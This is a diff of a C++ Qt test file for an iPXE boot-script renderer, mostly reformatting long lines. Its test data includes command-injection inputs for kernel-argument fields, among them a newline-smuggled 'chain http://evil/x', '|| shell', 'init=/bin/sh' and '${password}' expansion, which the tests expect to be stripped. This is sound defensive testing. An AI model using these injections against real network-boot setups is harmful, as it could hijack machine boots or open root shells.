@@ -66,8 +66,8 @@ private Q_SLOTS:
                            "drover.manifest=sha256:%2 drover.mac=52:54:00:12:34:56 drover.boot=0123456789abcdef "
                            "drover.token=0123456789abcdef0123456789abcdef || goto drover_retry")
                 .arg(QString(64, QLatin1Char('b')), QString(64, QLatin1Char('a'))));
-        QVERIFY(r.text.contains(QByteArray(
-            "initrd --name initrd.img http://10.0.0.1:8080/blobs/sha256:" + QByteArray(64, 'c') + " || goto drover_retry\n")));
+        QVERIFY(r.text.contains(QByteArray("initrd --name initrd.img http://10.0.0.1:8080/blobs/sha256:"
+            + QByteArray(64, 'c') + " || goto drover_retry\n")));
         QVERIFY(r.text.contains("\nboot || goto drover_retry\n"));
         // Retries: a counted loop with a pause, then the server is asked again.
         QVERIFY(r.text.contains("inc drover_tries\n"));
@@ -85,7 +85,8 @@ private Q_SLOTS:
         auto rows = [](const char *field) {
             const QString f = QLatin1String(field);
             auto name = [&](const char *what) { return qPrintable(f + QLatin1Char('/') + QLatin1String(what)); };
-            QTest::newRow(name("newline command")) << f << "quiet\nchain http://evil/x\n:drover_fetch" << "quiet chain http://evil/x :drover_fetch";
+            QTest::newRow(name("newline command"))
+                << f << "quiet\nchain http://evil/x\n:drover_fetch" << "quiet chain http://evil/x :drover_fetch";
             QTest::newRow(name("carriage return")) << f << "quiet\r\nreboot" << "quiet reboot";
             QTest::newRow(name("variable expansion")) << f << "a=${password} b=${net0/ip}" << "";
             QTest::newRow(name("or operator")) << f << "quiet || shell" << "quiet shell";
@@ -101,9 +102,11 @@ private Q_SLOTS:
             QTest::newRow(name("option-like")) << f << "--name x -- init=/bin/sh" << "x init=/bin/sh";
             QTest::newRow(name("non-ascii")) << f << QStringLiteral("hostname=münchen quiet") << "quiet";
             QTest::newRow(name("nul and bell"))
-                << f << QStringLiteral("aXb cYd e=f").replace(QLatin1Char('X'), QChar(0)).replace(QLatin1Char('Y'), QChar(7))
+                << f
+                << QStringLiteral("aXb cYd e=f").replace(QLatin1Char('X'), QChar(0)).replace(QLatin1Char('Y'), QChar(7))
                 << "e=f";
-            QTest::newRow(name("own args allowed")) << f << "drover.debug=1 console=tty0" << "drover.debug=1 console=tty0";
+            QTest::newRow(name("own args allowed"))
+                << f << "drover.debug=1 console=tty0" << "drover.debug=1 console=tty0";
         };
         rows("image");
         rows("group");
@@ -119,7 +122,9 @@ private Q_SLOTS:
         in.imageArgs.clear();
         in.groupArgs.clear();
         in.machineArgs.clear();
-        (field == QLatin1String("image") ? in.imageArgs : field == QLatin1String("group") ? in.groupArgs : in.machineArgs)
+        (field == QLatin1String("image")          ? in.imageArgs
+                : field == QLatin1String("group") ? in.groupArgs
+                                                  : in.machineArgs)
             = value;
         const RenderedScript r = renderBootScript(in);
 
@@ -129,7 +134,8 @@ private Q_SLOTS:
         QCOMPARE(r.kernelArgs.count(QLatin1String("drover.server=")), 1);
         QCOMPARE(r.kernelArgs.count(QLatin1String("drover.token=")), 1);
         QCOMPARE(r.kernelArgs.count(QLatin1String("initrd=")), 1);
-        if (kept.split(QLatin1Char(' '), Qt::SkipEmptyParts).size() != value.split(QRegularExpression(QStringLiteral("\\s+")), Qt::SkipEmptyParts).size())
+        if (kept.split(QLatin1Char(' '), Qt::SkipEmptyParts).size()
+            != value.split(QRegularExpression(QStringLiteral("\\s+")), Qt::SkipEmptyParts).size())
             QVERIFY(!r.warnings.isEmpty());
 
         // Whatever the value, the script's structure is the same: the same commands, one
@@ -199,8 +205,9 @@ private Q_SLOTS:
     {
         const QByteArray s = renderChainScript(QStringLiteral("http://192.168.1.5:8080"));
         QVERIFY(s.startsWith("#!ipxe\n"));
-        QVERIFY(s.contains("chain --replace --autofree http://192.168.1.5:8080/boot/${mac:hexhyp}.ipxe?uuid=${uuid}"
-                           "&arch=${buildarch}&platform=${platform}&serial=${serial:uristring} || goto drover_failed\n"));
+        QVERIFY(
+            s.contains("chain --replace --autofree http://192.168.1.5:8080/boot/${mac:hexhyp}.ipxe?uuid=${uuid}"
+                       "&arch=${buildarch}&platform=${platform}&serial=${serial:uristring} || goto drover_failed\n"));
     }
 
     void serverUrls_data()
